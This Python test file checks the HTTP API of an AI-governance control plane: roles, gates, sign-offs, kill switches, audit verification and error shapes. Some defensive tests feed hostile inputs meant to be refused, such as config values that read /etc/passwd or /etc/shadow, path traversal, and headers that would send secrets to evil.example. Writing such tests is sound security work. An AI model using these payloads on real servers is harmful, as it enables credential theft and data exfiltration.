"""The control plane's contract, asked over HTTP: addresses, shapes of answers and errors, and what no one can get round."""

from __future__ import annotations

import json
import re
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import msgspec
import pytest
import pytest_asyncio
from litestar import Litestar
from tests.unit.web.site import OTHER, OWN, PASSWORD, Site, basic, call, running_site

from groundcrew.domain.audit import AuditEntry, chain_problems
from groundcrew.domain.call import GuardResult
from groundcrew.domain.canonical import sha256_hex
from groundcrew.domain.identifiers import new_id
from groundcrew.domain.kill_switch import Scope
from groundcrew.domain.trust import TrustReport
from groundcrew.domain.user import ROLES
from groundcrew.services.audit import verify_file
from groundcrew.web import health
from groundcrew.web.authentication import Principal
from groundcrew.web.authorization import allowed
from groundcrew.web.requests import BODY_BYTES_MAX

NAMED = (
    "use-cases",
    "hypotheses",
    "gates",
    "knowledge-bases",
    "calls",
    "ratings",
    "outcomes",
    "sign-offs",
    "kill-switches",
    "evidence",
    "audit",
    "users",
    "keys",
    "me",
    "apply",
    "jobs",
    "files",
)


@pytest_asyncio.fixture
async def site(tmp_path: Path) -> AsyncIterator[Site]:
    """A control plane on the embedded database."""
    async with running_site(tmp_path) as made:
        yield made


def error(answer: Any, status: int, code: str) -> dict[str, Any]:
    """The `error` of an answer, which has exactly the contract's shape."""
    assert answer.status_code == status, answer.text
    body = answer.json()
    assert set(body) == {"error"}
    assert body["error"]["code"] == code
    assert body["error"]["message"]
    assert set(body["error"]) <= {"code", "message", "field", "evaluation", "errors"}
    found: dict[str, Any] = body["error"]
    return found


async def test_openapi_describes_every_resource(site: Site) -> None:
    document = (await site.client.get("/api/v1/openapi.json")).json()
    assert document["openapi"].startswith("3.")
    for name in NAMED:
        assert any(path.startswith(f"/api/v1/{name}") for path in document["paths"]), name
    assert all(path.startswith("/api/v1/") for path in document["paths"])
    for path, methods in document["paths"].items():
        for method, operation in methods.items():
            assert operation["summary"], (method, path)
            assert ("requestBody" in operation) <= (method == "post")


async def test_the_reference_names_every_route_and_who_may_use_it(site: Site) -> None:
    text = (Path(__file__).parents[2] / "docs" / "reference" / "api.md").read_text(encoding="utf-8")
    rows = dict(re.findall(r"^\| `((?:GET|POST) /\S+)` \| .* \| ([^|]+) \|$", text, re.M))
    actual = {}
    for route in site.app.routes:
        for handler in getattr(route, "route_handlers", ()):
            if route.path_format.startswith("/api/v1/") and handler.include_in_schema is not False and "action" in handler.opt:
                for method in handler.http_methods & {"GET", "POST"}:
                    actual[f"{method} {route.path_format.removeprefix('/api/v1')}"] = who(handler.opt["action"])
    assert rows == actual


def who(action: str) -> str:
    """The roles that may do `action`, as the reference writes them."""
    roles = [role for role in ROLES if allowed(Principal(kind="user", name="x", method="session", roles=(role,)), action)]
    if len(roles) == len(ROLES):
        text = "everyone"
    else:
        text = "all but auditor" if set(ROLES) - set(roles) == {"auditor"} else ", ".join(roles)
    key = allowed(Principal(kind="key", name="x", method="key", use_case="u"), action)
    return text + (", key" if key else "")


async def test_probes(site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    assert (await site.client.get("/healthz")).json() == {"status": "ok"}
    ready = await site.client.get("/readyz")
    assert ready.status_code == 200
    assert set(ready.json()["parts"]) == {"database", "snapshot", "spool"}
    metrics = await site.client.get("/metrics")
    assert metrics.headers["content-type"].startswith("text/plain")
    assert b"groundcrew_calls_total" in metrics.content


@pytest.mark.parametrize(
    "parts", [{}, {"database": {}}, {"database": {"ok": True}, "spool": {"ok": None}}, RuntimeError("secret")]
)
async def test_what_is_not_known_to_be_ready_is_not_ready(parts: Any) -> None:
    async def readiness() -> Any:
        if isinstance(parts, Exception):
            raise parts
        return parts

    app = Litestar([health.health_routes(lambda: b"", readiness)], logging_config=None)
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app), base_url="http://testserver.local") as client:
        answer = await client.get("/readyz")
    assert answer.status_code == 503
    assert "secret" not in answer.text


async def test_use_cases_gates_and_moves(site: Site) -> None:
    listed = (await site.api("auditor", "GET", "/use-cases")).json()["use_cases"]
    assert [each["use_case"]["name"] for each in listed] == [OWN, OTHER]
    assert (await site.api("auditor", "GET", "/use-cases?business_unit=it")).json()["use_cases"][0]["use_case"]["name"] == OTHER
    one = (await site.api("auditor", "GET", f"/use-cases/{OWN}")).json()
    assert one["use_case"]["stage"] == "discovery"
    assert one["risk"]["tier"] == "limited"
    assert "did you mean" in error(await site.api("auditor", "GET", "/use-cases/leters"), 404, "not_found")["message"]

    looked = (await site.api("auditor", "GET", f"/use-cases/{OWN}/gate")).json()
    assert looked["stage"] == "pilot"
    assert not looked["passed"]
    assert (await site.api("auditor", "GET", f"/gates/{OWN}")).json() == {"evaluations": []}
    assert (await site.api("owner", "POST", f"/use-cases/{OWN}/gate")).status_code == 201
    assert len((await site.api("auditor", "GET", f"/gates/{OWN}")).json()["evaluations"]) == 1
    assert (await site.api("auditor", "GET", f"/use-cases/{OWN}/gate?to=production_readiness")).json()[
        "stage"
    ] == "production_readiness"


async def test_no_one_reaches_pilot_past_the_gate(site: Site) -> None:
    body = {"to": "pilot", "reason": "because"}
    for role in ("admin", "owner", "it"):
        refusal = error(await site.api(role, "POST", f"/use-cases/{OWN}/advance", json=body), 409, "gate_not_passed")
        by_key = {each["key"]: each for each in refusal["evaluation"]["results"]}
        assert by_key["hypothesis"]["status"] == "fail"
        assert "hypothesis register" in by_key["hypothesis"]["missing"]
        assert re.search(r"the n needed is \d+ units", by_key["hypothesis"]["missing"])
        assert not refusal["evaluation"]["passed"]
    error(await site.api("owner", "POST", f"/use-cases/{OWN}/advance", json={"to": "scale", "reason": "x"}), 409, "conflict")
    for changed in ({**body, "reason": ""}, {"to": "pilot"}, {**body, "force": True}, {**body, "to": "Pilot"}):
        error(await site.api("owner", "POST", f"/use-cases/{OWN}/advance", json=changed), 400, "invalid_input")
    assert (await site.services.use_cases.get(OWN)).stage == "discovery"


async def test_registering_a_hypothesis_freezes_it(site: Site) -> None:
    registered = (await site.api("business", "POST", f"/hypotheses/{OWN}/register")).json()
    assert registered["state"] == "registered"
    assert registered["registered_by"] == "user:business"
    assert len(registered["digest"]) == 64
    error(await site.api("business", "POST", f"/hypotheses/{OWN}/register"), 409, "conflict")
    error(await site.api("business", "POST", f"/hypotheses/{OTHER}/register"), 404, "not_found")
    assert len((await site.api("auditor", "GET", f"/hypotheses?use_case={OWN}")).json()["hypotheses"]) == 1


async def test_demotion(site: Site) -> None:
    moved = await site.api("it", "POST", f"/use-cases/{OTHER}/demote", json={"to": "retired", "reason": "replaced"})
    assert (moved.json()["stage"], moved.json()["run_state"]) == ("retired", "off")


async def test_keys_rate_their_own_calls_once(site: Site) -> None:
    body = {"stars": 4, "rater": "agent-1", "call_id": site.call_id, "id": "rating-1", "critical_harm": False}
    first = await site.as_key("POST", "/ratings", json=body)
    assert first.status_code == 201
    assert first.json()["use_case"] == OWN
    assert (await site.as_key("POST", "/ratings", json=body)).json() == first.json()
    error(await site.as_key("POST", "/ratings", json={**body, "stars": 5}), 409, "conflict")
    error(await site.as_key("POST", "/ratings", use_case=OTHER, json={**body, "id": "rating-2"}), 404, "not_found")
    error(await site.as_key("POST", "/ratings", json={"stars": 3, "call_id": site.call_id}), 400, "invalid_input")
    for changes, field in (
        ({"stars": 6}, "stars"),
        ({"stars": "5"}, "stars"),
        ({"stars": 4.5}, "stars"),
        ({"stars": None}, "stars"),
        ({"star": 5}, "star"),
        ({"comment": "x" * 5_000}, "comment"),
        ({"at": "yesterday"}, "at"),
        ({"at": "2026-01-01T00:00:00"}, "at"),
    ):
        assert error(await site.as_key("POST", "/ratings", json={**body, **changes}), 400, "invalid_input")["field"] == field
    listed = (await site.api("auditor", "GET", f"/ratings?use_case={OWN}")).json()["ratings"]
    assert [each["id"] for each in listed] == ["rating-1"]


async def test_people_rate_as_themselves(site: Site) -> None:
    body = {"stars": 2, "call_id": site.call_id, "corrected_text": "Letters take three days."}
    assert (await site.api("reviewer", "POST", "/ratings", json=body)).json()["rater"] == "reviewer"
    assert (
        error(await site.api("reviewer", "POST", "/ratings", json={**body, "rater": "x"}), 400, "invalid_input")["field"]
        == "rater"
    )


async def test_outcomes_are_all_or_nothing(site: Site) -> None:
    rows = [{"metric": "handle_time", "value": 410.0, "case_id": f"c{each}", "arm": "treatment"} for each in range(3)]
    first = await site.as_key("POST", "/outcomes", json={"outcomes": rows})
    assert first.json() == {"recorded": 3, "unchanged": 0, "outdated": 0}
    assert (await site.as_key("POST", "/outcomes", json={"use_case": OWN, "outcomes": rows})).json()["unchanged"] == 3
    broken = [*rows, {"metric": "handle_time", "value": 1.0, "case_id": " "}, {"metric": "x", "value": 2.0, "case_id": "new"}]
    assert "[3].case_id" in str(error(await site.as_key("POST", "/outcomes", json={"outcomes": broken}), 400, "invalid_input"))
    text = json.dumps({"outcomes": [{"metric": "m", "value": "12", "case_id": "c"}]})
    headers = {"Content-Type": "application/json"}
    problem = error(await site.as_key("POST", "/outcomes", content=text, headers=headers), 400, "invalid_input")
    assert problem["field"] == "outcomes[0].value"
    error(await site.as_key("POST", "/outcomes", json={"use_case": OTHER, "outcomes": rows}), 404, "not_found")
    assert (
        error(await site.api("owner", "POST", "/outcomes", json={"outcomes": rows}), 400, "invalid_input")["field"] == "use_case"
    )
    assert len((await site.api("auditor", "GET", f"/outcomes?use_case={OWN}&limit=2")).json()["outcomes"]) == 2
    assert len((await site.api("auditor", "GET", f"/outcomes?use_case={OWN}")).json()["outcomes"]) == 3


async def test_calls_page_by_page(site: Site) -> None:
    await site.services.calls.ship([call() for _ in range(5)], gateway="test")
    page = (await site.as_key("GET", "/calls?limit=3")).json()
    assert [len(page["calls"]), page["next_before"]] == [3, page["calls"][-1]["id"]]
    rest = (await site.as_key("GET", f"/calls?limit=200&before={page['next_before']}")).json()
    assert (len(rest["calls"]), rest["next_before"]) == (4, None)
    assert {each["use_case"] for each in page["calls"] + rest["calls"]} == {OWN}
    error(await site.as_key("GET", f"/calls?use_case={OTHER}"), 404, "not_found")
    for limit in (0, 201, "many"):
        assert error(await site.as_key("GET", f"/calls?limit={limit}"), 400, "invalid_input")["field"] == "limit"
    error(await site.as_key("GET", f"/calls/{site.call_id}", use_case=OTHER), 404, "not_found")
    assert (await site.as_key("GET", f"/calls/{site.call_id}")).json()["answer"] == "Letters take two days."
    assert len((await site.api("auditor", "GET", f"/calls?use_case={OTHER}&status=answered")).json()["calls"]) == 1


async def test_a_call_that_is_not_shipped_yet_is_shipped_first(site: Site) -> None:
    late = call(answer="just now")

    async def flush() -> None:
        await site.services.calls.ship([late], gateway="test")

    site.services.flush = flush
    assert (await site.as_key("GET", f"/calls/{late.id}")).json()["answer"] == "just now"


async def test_a_key_reads_nothing_of_what_was_kept_from_it(site: Site) -> None:
    doubted = TrustReport(trust=0.1, state="unsupported", verifier="v", reason="it says 'twenty days'")
    quoting = GuardResult(
        guard="commitment", place="output", verdict="flag", action="hold", mode="enforce", reason="promises 'twenty days'"
    )
    held = call(
        status="held",
        answer="",
        sign_off_id=new_id(),
        withheld_answer="Letters take twenty days.",
        withheld_trust=doubted,
        guards=(quoting,),
        details={"held_because": "it promises 'twenty days'", "prompt": "p"},
    )
    copy = call(answer="a shadow's twenty days", shadow_of=held.id)
    await site.services.calls.ship([held, copy], gateway="test")
    for path in (f"/calls/{held.id}", "/calls?status=held", "/calls?shadows=true", f"/calls/{held.id}?shadows=true"):
        answer = await site.as_key("GET", path)
        assert answer.status_code == 200
        assert "twenty" not in answer.text, path
        assert "held" in answer.text
    error(await site.as_key("GET", f"/calls/{copy.id}"), 404, "not_found")
    assert "twenty" in (await site.api("reviewer", "GET", f"/calls/{held.id}")).text


async def test_a_stopped_key_collects_nothing(site: Site) -> None:
    path = f"/calls/{site.call_id}"
    assert (await site.as_key("GET", path)).status_code == 200
    (key,) = [each for each in await site.services.keys.find() if each.use_case == OWN]
    await site.services.kill_switches.stop(Scope("key", key.id), actor="user:on_call", reason="leaked")
    assert (await site.as_key("GET", path)).status_code == 401
    assert (await site.as_key("GET", f"/sign-offs/{site.sign_off_id}")).status_code == 401


async def test_a_sign_off_tells_its_text_only_once_a_person_released_it(site: Site) -> None:
    path = f"/sign-offs/{site.sign_off_id}"
    waiting = await site.as_key("GET", path)
    assert waiting.json()["state"] == "pending"
    assert waiting.json()["text"] is None
    assert "draft" not in waiting.text
    error(await site.as_key("GET", path, use_case=OTHER), 404, "not_found")
    error(await site.as_key("POST", f"{path}/decide", json={"decision": "approve"}), 403, "not_allowed")
    error(await site.api("admin", "POST", f"{path}/decide", json={"decision": "approve"}), 403, "not_allowed")
    assert (
        error(await site.api("reviewer", "POST", f"{path}/decide", json={"decision": "edit"}), 400, "invalid_input")["field"]
        == "text"
    )
    text = "Letters take two days. – Ü"
    decided = await site.api("reviewer", "POST", f"{path}/decide", json={"decision": "edit", "text": text})
    assert decided.status_code == 200
    polled = (await site.as_key("GET", path)).json()
    assert (polled["state"], polled["text"], polled["sha256"]) == ("edited", text, sha256_hex(text.encode()))
    error(await site.api("reviewer", "POST", f"{path}/decide", json={"decision": "approve"}), 409, "conflict")


async def test_a_rejected_draft_never_leaves(site: Site) -> None:
    path = f"/sign-offs/{site.sign_off_id}"
    await site.api("reviewer", "POST", f"{path}/decide", json={"decision": "reject", "comment": "It is wrong."})
    polled = (await site.as_key("GET", path)).json()
    assert (polled["state"], polled["text"], polled["comment"]) == ("rejected", None, "It is wrong.")


async def test_a_gateway_is_forgotten_only_where_it_is_not_heard_of(site: Site) -> None:
    body, path = {"reason": "it is off"}, "/kill-switches/gateways/gateway-9/forget"
    error(await site.api("it", "POST", path, json=body), 404, "not_found")
    await site.services.snapshots.acknowledge(gateway="gateway-9", host="there", process_id=1, version=1, on="another boot")
    error(await site.api("it", "POST", path, json=body), 409, "conflict")


async def test_one_person_stops_and_two_start_again(site: Site) -> None:
    body = {"scope": f"use-case:{OWN}", "reason": "a wrong fee"}
    stopped = (await site.api("legal", "POST", "/kill-switches/stop", json=body)).json()
    assert stopped["switch"]["state"] == "confirmed_stopped"
    assert (await site.services.use_cases.get(OWN)).run_state == "suspended"
    error(await site.api("on_call", "POST", "/kill-switches/drill", json=body), 409, "conflict")
    asked = (await site.api("on_call", "POST", "/kill-switches/resume", json=body)).json()
    assert (asked["switch"]["state"], asked["denies"]) == ("reset_pending", True)
    error(await site.api("on_call", "POST", "/kill-switches/resume", json=body), 409, "conflict")
    assert (await site.api("it", "POST", "/kill-switches/resume", json=body)).json()["denies"] is False
    assert (await site.services.use_cases.get(OWN)).run_state == "running"
    listed = (await site.api("auditor", "GET", "/kill-switches")).json()["kill_switches"]
    assert [(each["scope_text"], each["denies"]) for each in listed] == [(f"use-case:{OWN}", False)]
    error(
        await site.api("legal", "POST", "/kill-switches/stop", json={"scope": "everything", "reason": "x"}), 400, "invalid_input"
    )
    error(await site.api("legal", "POST", "/kill-switches/stop", json={"scope": "model:no", "reason": "x"}), 404, "not_found")


async def test_attestations_come_from_who_did_not_build_it(site: Site) -> None:
    body = {"use_case": OTHER, "subject": "impact_assessment", "statement": "Read and found sound."}
    made = await site.api("legal", "POST", "/evidence/attestations", json=body)
    assert (made.status_code, made.json()["producer"]) == (201, "user:legal")
    listed = (await site.api("auditor", "GET", f"/evidence?use_case={OTHER}")).json()["evidence"]
    assert [(each["evidence"]["subject"], each["state"]) for each in listed] == [("impact_assessment", "valid")]
    await site.services.users.create("petra@bank.example", PASSWORD, roles=("owner",), actor="user:test")
    answer = await site.client.post("/api/v1/evidence/attestations", json=body, headers=basic("petra@bank.example"))
    error(answer, 403, "not_allowed")
    assert error(await site.api("legal", "POST", "/evidence/attestations", json={**body, "valid_s": 1e12}), 400, "invalid_input")


async def test_accounts_and_keys_never_show_their_hashes(site: Site) -> None:
    new = {"name": "anna", "password": "a long enough one", "roles": ["owner"], "qualifications": ["service-agent"]}
    made = await site.api("admin", "POST", "/users", json=new)
    assert made.status_code == 201
    error(await site.api("admin", "POST", "/users", json=new), 409, "conflict")
    assert (
        error(await site.api("admin", "POST", "/users", json={**new, "password": "short"}), 400, "invalid_input")["field"]
        == "password"
    )
    assert (
        error(await site.api("admin", "POST", "/users", json={**new, "roles": ["root"]}), 400, "invalid_input")["field"]
        == "roles[0]"
    )
    listed = await site.api("admin", "GET", "/users")
    assert "argon2" not in listed.text
    assert "password" not in listed.text
    created = (await site.api("it", "POST", "/keys", json={"use_case": OWN})).json()
    assert created["secret"].startswith("gc_")
    keys = await site.api("it", "GET", f"/keys?use_case={OWN}")
    assert "sha256" not in keys.text
    assert created["secret"] not in keys.text
    key_id = created["key"]["id"]
    assert (await site.api("it", "POST", f"/keys/{key_id}/revoke", json={"reason": "leaked"})).json()["revoked_at"]
    error(await site.api("it", "POST", f"/keys/{key_id}/revoke", json={"reason": "again"}), 409, "conflict")


async def test_who_is_asking(site: Site) -> None:
    assert (await site.as_key("GET", "/me")).json()["use_case"] == OWN
    assert (await site.as_key("GET", "/me", headers={"Authorization": "", "x-api-key": site.secrets[OTHER]})).json()[
        "use_case"
    ] == OTHER
    person = (await site.client.get("/api/v1/me", headers=basic("reviewer"))).json()
    assert (person["actor"], person["roles"], person["qualifications"]) == ("user:reviewer", ["reviewer"], ["service-agent"])


async def test_the_audit_log_verifies_here_and_elsewhere(site: Site, tmp_path: Path) -> None:
    report = (await site.api("auditor", "GET", "/audit/verify")).json()
    assert report["problems"] == []
    page = (await site.api("auditor", "GET", "/audit?limit=5")).json()
    assert [each["sequence"] for each in page["entries"]] == list(range(report["entries"], report["entries"] - 5, -1))
    older = (await site.api("auditor", "GET", f"/audit?limit=5&before={page['next_before']}")).json()
    assert older["entries"][0]["sequence"] == page["next_before"] - 1
    about = (await site.api("auditor", "GET", f"/audit?subject=use-case/{OWN}")).json()["entries"]
    assert {each["subject"] for each in about} == {f"use-case/{OWN}"}
    export = tmp_path / "audit.jsonl"
    export.write_bytes((await site.api("auditor", "GET", "/audit/export")).content)
    assert verify_file(export).problems == ()
    entries = [msgspec.json.decode(line, type=AuditEntry) for line in export.read_bytes().splitlines()]
    edited = [*entries[:3], msgspec.structs.replace(entries[3], actor="user:nobody"), *entries[4:]]
    assert chain_problems(edited)


async def test_apply_shows_the_diff_and_names_what_is_wrong(site: Site) -> None:
    use_case = (
        "kind: UseCase\nname: third\ntitle: Third\nowner: anna@bank.example\nbusiness_unit: it\npurpose: Try\n"
        "affected_persons: employees\nsolution: product\nautonomy: assist\ndata_classes: [internal]\nmodel: writer\n"
        "hypothesis: {plan: plan.yaml}\n"
    )
    files = {"third.yaml": use_case, "plan.yaml": "name: p\nunit: ticket\n"}
    dry = (await site.api("owner", "POST", "/apply", json={"files": files, "dry_run": True})).json()
    assert (dry["written"], [each["action"] for each in dry["changes"]]) == (False, ["created", "created"])
    error(await site.api("owner", "GET", "/use-cases/third"), 404, "not_found")
    assert (await site.api("owner", "POST", "/apply", json={"files": files})).json()["written"] is True
    again = (await site.api("owner", "POST", "/apply", json={"files": files})).json()
    assert {each["action"] for each in again["changes"]} == {"unchanged"}
    problem = error(
        await site.api("owner", "POST", "/apply", json={"files": {**files, "third.yaml": use_case.replace("title", "titel")}}),
        400,
        "invalid_input",
    )
    assert {"file", "line", "field", "message"} <= set(problem["errors"][0])
    assert problem["errors"][0]["file"] == "third.yaml"
    assert "/tmp" not in json.dumps(problem)  # noqa: S108
    earned = use_case + "stage: scale\n"
    error(await site.api("owner", "POST", "/apply", json={"files": {**files, "third.yaml": earned}}), 400, "invalid_input")


@pytest.mark.parametrize(
    "text",
    [
        "kind: Provider\nname: p\napi: openai\nbase_url: https://evil.example/v1\napi_key: file:/etc/passwd\n",
        "kind: KnowledgeBase\nname: k\nowner: a@b.example\npaths: [/etc]\n",
        "kind: Policy\nname: p\nguards:\n  - {guard: commitment, authority: /etc/passwd}\n",
        "kind: Policy\nname: p\nguards:\n  - {guard: commitment, authority: ../../../../etc/passwd}\n",
        *(
            f"kind: Policy\nname: p\nguards:\n  - {{guard: http, name: t, url: 'https://evil.example/', headers: {{{header}}}}}\n"
            for header in ("x: 'file:/etc/passwd'", "authorization: 'Bearer file:/etc/passwd'", "note: 'file:secrets.yaml'")
        ),
        "kind: UseCase\nname: u\nprompt: {file: /etc/passwd}\nhypothesis: {plan: ../x.yaml}\n",
        "kind: UseCase\nname: u\nprompt: {file: ~/secret}\n",
        "a: &a [*a]\n",
        "kind: [",
        "",
    ],
)
async def test_apply_reads_nothing_of_the_server(site: Site, text: str) -> None:
    problem = error(await site.api("admin", "POST", "/apply", json={"files": {"a.yaml": text}}), 400, "invalid_input")
    assert "root:" not in json.dumps(problem)


async def test_apply_refuses_odd_names_and_routes_without_the_role(site: Site) -> None:
    for name in ("../a.yaml", "/etc/a.yaml", "a.txt", "", ".hidden.yaml", "a\\b.yaml"):
        error(await site.api("admin", "POST", "/apply", json={"files": {name: "kind: Model\n"}}), 400, "invalid_input")
    error(await site.api("admin", "POST", "/apply", json={"files": {}}), 400, "invalid_input")
    provider = {"files": {"a.yaml": "kind: Provider\nname: other\napi: extractive\n"}}
    error(await site.api("owner", "POST", "/apply", json=provider), 403, "not_allowed")
    assert (await site.api("it", "POST", "/apply", json=provider)).status_code == 200
    plain = {"files": {"a.yaml": "kind: Policy\nname: other\nguards: [{guard: pii}]\n"}}
    assert (await site.api("owner", "POST", "/apply", json=plain)).status_code == 200
    rule = "{guard: http, name: tone, url: 'https://tone.example/', headers: {x-key: env:DATABASE_URL}}"
    sends = {"files": {"a.yaml": f"kind: Policy\nname: other\nguards: [{rule}]\n"}}
    error(await site.api("owner", "POST", "/apply", json=sends), 403, "not_allowed")
    assert (await site.api("it", "POST", "/apply", json=sends)).status_code == 200
    hook = "kind: Channel\nname: app\nvia: webhook\nurl: 'https://evil.example/'\nsecret: {}\nnetworks: [10.0.0.0/8]\n"
    channel = {"files": {"a.yaml": hook.format("env:HOOK")}}
    error(await site.api("owner", "POST", "/apply", json=channel), 403, "not_allowed")
    assert (await site.api("it", "POST", "/apply", json=channel)).status_code == 200
    inside = {"files": {"a.yaml": hook.format("file:/etc/shadow")}}
    assert "declared on the server" in (await site.api("it", "POST", "/apply", json=inside)).text


async def test_a_program_declares_use_cases_and_not_what_overlaps_rest_on(site: Site) -> None:
    roles = ("owner", "it")
    await site.services.users.create("tool", PASSWORD, roles=roles, kind="agent", actor="system:test")
    sold = "kind: VendorCapability\nvendor: Officia\nproduct: Work\nname: Recap\ndescription: Lists what a meeting decided\n"
    sold += "status: ga\nsource: https://officia.example/work\nchecked_on: 2026-01-31\n"
    for text, status in (("kind: Policy\nname: other\nguards: [{guard: pii}]\n", 200), (sold, 403)):
        body = {"files": {"a.yaml": text}}
        answer = await site.client.post("/api/v1/apply", json=body, headers=basic("tool"))
        assert answer.status_code == status, answer.text
    assert (await site.api("owner", "POST", "/apply", json=body)).status_code == 200, "a person does"


@pytest.mark.parametrize(
    ("content", "status", "code"),
    [
        (b"", 400, "invalid_input"),
        (b"{", 400, "invalid_input"),
        (b"[]", 400, "invalid_input"),
        (b"null", 400, "invalid_input"),
        (b'{"stars": 1e999, "rater": "x"}', 400, "invalid_input"),
        (b'{"stars": 5, "rater": "\xff"}', 400, "invalid_input"),
        (b"[" * 100_000, 400, "invalid_input"),
        (b'{"comment": "' + b"x" * BODY_BYTES_MAX + b'"}', 413, "body_too_large"),
    ],
)
async def test_bodies_that_are_no_good(site: Site, content: bytes, status: int, code: str) -> None:
    answer = await site.as_key("POST", "/ratings", content=content, headers={"Content-Type": "application/json"})
    error(answer, status, code)
    assert "Traceback" not in answer.text


async def test_addresses_and_methods_that_there_are_not(site: Site) -> None:
    error(await site.client.get("/api/v1/nothing"), 404, "not_found")
    answer = await site.client.delete("/api/v1/me")
    error(answer, 405, "method_not_allowed")
    assert "GET" in answer.headers["allow"]
    page = await site.client.get("/nothing", headers={"Accept": "text/html"})
    assert page.status_code == 404
    assert page.headers["content-type"].startswith("text/html")
    assert (await site.client.get("/nothing", headers={"Accept": "application/json"})).json()["error"]["code"] == "not_found"


async def test_what_breaks_inside_is_not_told_outside(site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    async def broken() -> Any:
        raise RuntimeError("the password is hunter2")

    monkeypatch.setattr(site.services.use_cases, "find", broken)
    answer = await site.api("admin", "GET", "/use-cases")
    message = error(answer, 500, "internal_error")["message"]
    assert "hunter2" not in answer.text
    assert "Traceback" not in answer.text
    assert "the log has it under" in message


async def test_it_stands_on_postgresql_too(tmp_path: Path, postgres_url: str) -> None:
    async with running_site(tmp_path, database_url=postgres_url) as site:
        for path in (
            "/",
            f"/use-cases/{OWN}",
            f"/calls/{site.call_id}",
            "/sign-offs",
            "/kill-switches",
            "/audit",
            "/knowledge/rules",
        ):
            assert (await site.as_person("admin", "GET", path)).status_code == 200, path
        assert (await site.api("auditor", "GET", "/audit/verify")).json()["problems"] == []
